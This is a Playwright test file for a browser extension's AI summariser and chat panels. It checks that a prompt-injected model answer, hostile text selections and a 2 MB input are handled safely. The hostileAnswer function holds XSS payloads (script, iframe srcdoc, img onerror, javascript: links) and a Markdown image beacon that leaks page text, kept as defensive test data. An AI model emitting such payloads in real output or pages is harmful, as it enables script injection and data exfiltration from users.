import type { Locator, Page } from '@playwright/test';
import type { FakeServer } from '../../fakes/http';
import { startOpenAIFake } from '../../fakes/openai-fake';
import { expect, test } from '../fixtures';
import { startPageServer } from '../support/page-server';
import { FeaturePage } from '../support/popup-page';
import {
  installTraps,
  longTasks,
  pageNow,
  readTraps,
  setModelCommitted,
  startBeacon,
  waitForAnswerEnd,
  watchLongTasks,
} from '../support/probes';
import { openPopupOver, saveSettings, selectText } from '../support/surfaces';

const KEY = 'sk-proj-hostile0123456789abcdef0123456789';

/** A prompt-injected answer: every way Markdown or raw HTML could run code or call home. */
function hostileAnswer(beacon: string): string {
  return [
    '## Summary',
    '',
    `The page says hello. <img src="${beacon}/img" onerror="window.__pwned='img'"> Inline image above.`,
    '',
    "<script>window.__pwned='script'</script>",
    '',
    `<iframe srcdoc="<script>parent.__pwned='iframe'</script>"></iframe>`,
    '',
    "Try [click me](javascript:window.__pwned='link') now.",
    '',
    `Or this <a href="javascript:window.__pwned='a'">raw link</a> here.`,
    '',
    `![beacon](${beacon}/beacon?d=page-text)`,
    '',
    'A normal [safe](https://example.com/page) link.',
    '',
    '```html',
    '<script>window.__pwned = "code";</script>',
    '```',
    '',
    'The end.',
  ].join('\n');
}

/** Everything the rendered answer must (not) contain, whichever surface shows it. */
async function expectInert(page: Page, answer: Locator, beacon: FakeServer): Promise<void> {
  // Rendered as Markdown (the lazy renderer has loaded), not the plain-text fallback shown meanwhile.
  await expect(answer.locator('.markdown').getByText('The end.')).toBeVisible();
  await expect(answer.locator('.markdown-fallback')).toHaveCount(0);
  await expect(answer.locator('script, iframe, img, object, embed, frame')).toHaveCount(0);

  // Links: only http(s)/mailto, opened in a new tab with no opener and no referrer.
  const links = await answer.locator('a[href]').evaluateAll((anchors) =>
    anchors.map((anchor) => ({
      href: anchor.getAttribute('href') ?? '',
      rel: anchor.getAttribute('rel') ?? '',
      target: anchor.getAttribute('target') ?? '',
      text: anchor.textContent ?? '',
    })),
  );
  expect(links.map((link) => link.text)).toContain('safe');
  for (const link of links) {
    expect(link.href, `link "${link.text}"`).toMatch(/^(https?:|mailto:)/i);
    expect(link.rel.split(/\s+/)).toEqual(expect.arrayContaining(['noopener', 'noreferrer']));
    expect(link.target).toBe('_blank');
  }
  expect(links.find((link) => link.text === 'safe')?.href).toBe('https://example.com/page');
  // The javascript: links are shown as text, with no href at all.
  const clickMe = answer.getByText('click me', { exact: true });
  await expect(clickMe).toBeVisible();
  expect(await clickMe.evaluate((element) => element.closest('a')?.getAttribute('href') ?? null)).toBeNull();
  expect(await answer.getByText('raw link').evaluate((element) => element.closest('a')?.getAttribute('href') ?? null)).toBeNull();
  await expect(answer.locator('a[href^="javascript" i], [href*="__pwned"], [onerror], [onclick], [srcdoc]')).toHaveCount(0);

  // The blocked image is shown as text, naming its address so the user sees what was not loaded.
  await expect(answer.locator('.blocked-image')).toHaveCount(1);
  await expect(answer.locator('.blocked-image')).toContainText('Image not loaded');
  await expect(answer.locator('.blocked-image')).toContainText('beacon');

  // The fenced code is shown as code, not run.
  await expect(answer.locator('pre code')).toContainText('<script>window.__pwned = "code";</script>');

  // Clicking the neutralised link does nothing: no navigation, no new page, no code.
  const pagesBefore = page.context().pages().length;
  const urlBefore = page.url();
  await clickMe.click();
  expect(page.url()).toBe(urlBefore);
  expect(page.context().pages().length).toBe(pagesBefore);

  // A request we make on purpose proves the beacon is reachable; nothing else may have hit it.
  await page.evaluate((url) => fetch(url, { mode: 'no-cors' }).then(() => undefined), `${beacon.url}/control`);
  await expect.poll(() => beacon.requests.map((request) => request.path)).toContain('/control');
  expect(beacon.requests.filter((request) => request.path !== '/control').map((request) => request.url)).toEqual([]);

  const traps = await readTraps(page);
  expect(traps.pwned, 'window.__pwned').toBeUndefined();
  expect(traps.inserted, 'script/iframe/img elements inserted in the page').toEqual([]);
  expect(traps.violations, 'CSP violations (the CSP is only the last line of defence)').toEqual([]);
}

for (const surface of ['popup', 'sidepanel'] as const) {
  test(`${surface}: a hostile Markdown answer renders inert (no script, frame, image beacon or javascript: link)`, async ({
    worker,
    openPage,
  }) => {
    const beacon = await startBeacon();
    const fake = await startOpenAIFake({ keys: [KEY], content: hostileAnswer(beacon.url) });
    try {
      await saveSettings(worker, { baseUrls: { openai: `${fake.url}/v1` } });
      const page = await openPage(surface);
      const dialogs: string[] = [];
      page.on('dialog', (dialog) => {
        dialogs.push(dialog.message());
        void dialog.dismiss();
      });
      const ui = new FeaturePage(page);
      await expect(ui.tab('Chat')).toBeVisible();
      await installTraps(page);
      if (surface === 'popup') await ui.chooseFeature('Summarizer');
      await setModelCommitted(ui, surface === 'popup' ? 'summarizer' : 'chat', 'gpt-test');
      await ui.saveKey(KEY);

      let answer: Locator;
      if (surface === 'popup') {
        await page.getByLabel('Text to summarize').fill('Summarize this page, please.');
        await ui.run();
        await waitForAnswerEnd(ui.answer);
        await expect(ui.badge).toHaveText(/BYOK/);
        answer = ui.answer;
      } else {
        const composer = page.getByLabel('Message', { exact: true });
        await composer.fill('What does the page say?');
        await composer.press('Enter');
        await expect(page.locator('.turn-assistant')).toHaveCount(1);
        answer = page.locator('.turn-assistant').last();
        await expect(answer.locator('.badge')).toHaveText(/BYOK/);
      }
      expect(fake.requests.filter((request) => request.path === '/v1/chat/completions')).toHaveLength(1);
      await expectInert(page, answer, beacon);
      expect(dialogs).toEqual([]);
    } finally {
      await fake.close();
      await beacon.close();
    }
  });
}

test('hostile selections (markup as text, zero-width, RTL override, Arabic/Hebrew, emoji ZWJ, control characters) are kept as selected and summarised inert', async ({
  context,
  worker,
  extensionId,
}) => {
  const pages = await startPageServer();
  try {
    const article = await context.newPage();
    await article.goto(`${pages.url}/hostile.html`);
    for (const selector of ['#tricky', '#junk']) {
      await article.bringToFront();
      const selected = await selectText(article, selector);
      expect(selected.length).toBeGreaterThan(100);

      const popup = await openPopupOver(context, worker, extensionId);
      const dialogs: string[] = [];
      popup.on('dialog', (dialog) => {
        dialogs.push(dialog.message());
        void dialog.dismiss();
      });
      const ui = new FeaturePage(popup);
      const field = popup.getByLabel('Text to summarize');
      await expect(field).toHaveValue(selected.trim());
      await installTraps(popup);
      await ui.run();
      await ui.waitForEnd();
      await expect(ui.badge).toHaveText(/Demo/);
      await expect(ui.answer.getByRole('heading', { name: 'Key Insights' })).toBeVisible();
      await expect(ui.answer.getByRole('alert')).toHaveCount(0);
      await expect(ui.answer.locator('.markdown script, .markdown iframe, .markdown img')).toHaveCount(0);
      await expect(ui.answer.locator('.markdown a[href]:not([href^="http"]):not([href^="mailto:"])')).toHaveCount(0);
      // The input is what the user selected, byte for byte, before and after the run.
      await expect(field).toHaveValue(selected.trim());
      expect(await field.inputValue()).toBe(selected.trim());
      if (selector === '#tricky') {
        for (const piece of [
          '<script>',
          '\u200B',
          '\u200D',
          '\uFEFF',
          '\u202E',
          'مرحبا',
          'שלום',
          '👨\u200D👩\u200D👧\u200D👦',
          '👍🏽',
          '🇵🇹',
        ]) {
          expect(selected, `selection keeps ${JSON.stringify(piece)}`).toContain(piece);
        }
      } else {
        for (const piece of ['\u0001', '\u0007', '\u0008', '\uFFFD'])
          expect(selected, `selection keeps ${JSON.stringify(piece)}`).toContain(piece);
      }
      const traps = await readTraps(popup);
      expect(traps.pwned).toBeUndefined();
      expect(traps.inserted).toEqual([]);
      expect(traps.violations).toEqual([]);
      expect(dialogs).toEqual([]);
      expect(await article.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned)).toBeUndefined();
      await popup.close();
    }
  } finally {
    await pages.close();
  }
});

/** About 2,000,000 characters of prose with recognisable first and last sentences. */
function bigPage(): { html: string; first: string; last: string; length: number } {
  const first = 'BEGINNING-OF-TEXT: the harbour authority published its annual report today.';
  const last = 'END-OF-TEXT: the board will meet again in the spring.';
  const sentences = [
    'Tidal turbines in the northern harbours produced more power than expected.',
    'Engineers measured the output every minute and found it predictable.',
    'Fishermen asked for a study of salmon near the turbines.',
    'The cost per megawatt hour fell by a third since the first installation.',
    'Maintenance remains expensive because divers can work only at slack tide.',
  ];
  const parts = [first];
  let length = first.length;
  for (let index = 0; length < 2_000_000 - last.length; index++) {
    const sentence = `${sentences[index % sentences.length]} (${index})`;
    parts.push(sentence);
    length += sentence.length + 1;
  }
  parts.push(last);
  const text = parts.join(' ');
  return {
    html: `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Big</title></head><body><p id="big">${text}</p></body></html>`,
    first,
    last,
    length: text.length,
  };
}

test('2 MB selection: pre-filled, trimmed with a visible note, sent under 2 MB with its beginning and end, UI stays responsive', async ({
  context,
  worker,
  extensionId,
}) => {
  test.setTimeout(180_000);
  const big = bigPage();
  expect(big.length).toBeGreaterThanOrEqual(1_990_000);
  const pages = await startPageServer({ '/big.html': big.html });
  const fake = await startOpenAIFake({ keys: [KEY] });
  try {
    await saveSettings(worker, { baseUrls: { openai: `${fake.url}/v1` } });
    const article = await context.newPage();
    await article.goto(`${pages.url}/big.html`);
    const selected = await selectText(article, '#big');
    expect(selected.length).toBeGreaterThanOrEqual(1_990_000);

    const openedAt = Date.now();
    const popup = await openPopupOver(context, worker, extensionId);
    await watchLongTasks(popup);
    const ui = new FeaturePage(popup);
    const field = popup.getByLabel('Text to summarize');
    await expect
      .poll(() => field.evaluate((element) => (element as HTMLTextAreaElement).value.length), { timeout: 30_000 })
      .toBe(selected.trim().length);
    const prefilledMs = Date.now() - openedAt;
    expect(await field.evaluate((element) => (element as HTMLTextAreaElement).value.startsWith('BEGINNING-OF-TEXT'))).toBe(true);

    await setModelCommitted(ui, 'summarizer', 'slow');
    await ui.saveKey(KEY);
    const runFrom = await pageNow(popup);
    await ui.run();
    const note = ui.answer.getByRole('note');
    await expect(note).toHaveText(
      /^Input trimmed to (\d+)% of the text \([\d,]+ of [\d,]+ characters\): the beginning and the end were kept\.$/,
    );
    const percent = Number(/trimmed to (\d+)%/.exec((await note.textContent()) ?? '')?.[1]);
    expect(percent).toBeGreaterThan(0);
    expect(percent).toBeLessThan(100);
    await expect(note).toContainText(`of ${selected.trim().length.toLocaleString('en-US')} characters`);

    // While the answer streams, another tab answers a click within a few seconds.
    await expect(ui.answer).toContainText('Answer w1 w2');
    const clickAt = Date.now();
    await ui.tab('Prompt Crafter').click({ timeout: 5_000 });
    await expect(ui.tab('Prompt Crafter')).toHaveAttribute('aria-selected', 'true', { timeout: 5_000 });
    const clickMs = Date.now() - clickAt;
    expect(clickMs).toBeLessThan(3_000);
    await ui.tab('Summarizer').click();
    await ui.waitForEnd();
    await expect(ui.answer).toContainText('w199');
    await expect(ui.answer.getByRole('alert')).toHaveCount(0);

    const sent = fake.requests.filter((request) => request.path === '/v1/chat/completions');
    expect(sent).toHaveLength(1);
    const body = sent[0]?.body ?? '';
    expect(Buffer.byteLength(body)).toBeLessThan(2 * 1024 * 1024);
    expect(body.length).toBeLessThan(selected.length);
    expect(body).toContain(big.first);
    expect(body).toContain(big.last);
    expect(body).toMatch(/\[… [\d,]+ characters omitted …\]/);
    // The user's text is untouched in the field: only what was sent was trimmed.
    expect(await field.evaluate((element) => (element as HTMLTextAreaElement).value.length)).toBe(selected.trim().length);

    const { now, tasks } = await longTasks(popup);
    const longest = Math.max(0, ...tasks.map((task) => task.duration));
    const duringRun = Math.max(0, ...tasks.filter((task) => task.start + task.duration >= runFrom).map((task) => task.duration));
    console.log(
      `2 MB input (${selected.length.toLocaleString('en-US')} chars): pre-filled in ${prefilledMs} ms; request body ${(
        Buffer.byteLength(body) / 1024
      ).toFixed(0)} KiB, ${percent}% kept; tab click answered in ${clickMs} ms; long tasks in the popup over ${now} ms: ${
        tasks.length
      }, longest ${longest} ms (during the run: ${duringRun} ms); all: ${JSON.stringify(tasks)}`,
    );
    expect(longest, 'longest main-thread task in the popup (ms)').toBeLessThanOrEqual(2_000);
  } finally {
    await fake.close();
    await pages.close();
  }
});
